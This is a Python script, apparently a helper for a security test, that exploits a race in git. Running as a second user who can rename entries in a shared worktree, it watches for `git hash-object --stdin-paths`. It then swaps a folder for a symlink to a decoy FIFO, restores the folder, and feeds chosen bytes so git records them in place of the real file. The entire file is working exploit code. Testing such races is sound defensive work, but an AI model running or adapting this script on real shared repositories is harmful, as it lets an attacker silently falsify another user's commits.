#!/usr/bin/env python3
# swap-folder.py ROOT SUB DECOY NAME CONTENT READY: run as a hostile second user who may rename
# entries of ROOT (a group-writable worktree) but not write in ROOT/SUB. When git starts hashing
# files by path (`git hash-object ... --stdin-paths`), ROOT/SUB is swapped for a link to DECOY,
# whose NAME is a FIFO; once git opens it, the real folder is put back and the FIFO fed CONTENT's
# bytes (what the commit holds), so that git hashes them in place of ROOT/SUB/NAME.
import os, sys, time

root, sub, decoy, name, content, ready = sys.argv[1:7]
open(ready, "w").close()

def hashing():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"hash-object" in argv and b"--stdin-paths" in argv:
            return True
    return False

deadline = time.time() + 60
while not hashing():
    if time.time() > deadline:
        sys.exit("swap-folder: no hash-object was seen")
    time.sleep(0.0005)
real = os.path.join(root, "." + sub + "-real")
os.rename(os.path.join(root, sub), real)
os.symlink(decoy, os.path.join(root, sub))
fifo = -1
deadline = time.time() + 20
while fifo < 0 and time.time() < deadline:
    try:  # succeeds once git opened the FIFO to read
        fifo = os.open(os.path.join(decoy, name), os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        time.sleep(0.0005)
os.unlink(os.path.join(root, sub))
os.rename(real, os.path.join(root, sub))
if fifo < 0:
    sys.exit("swap-folder: git never read the decoy (the folder was put back)")
os.set_blocking(fifo, True)
os.write(fifo, open(content, "rb").read())
os.close(fifo)
print("swapped", file=sys.stderr, flush=True)
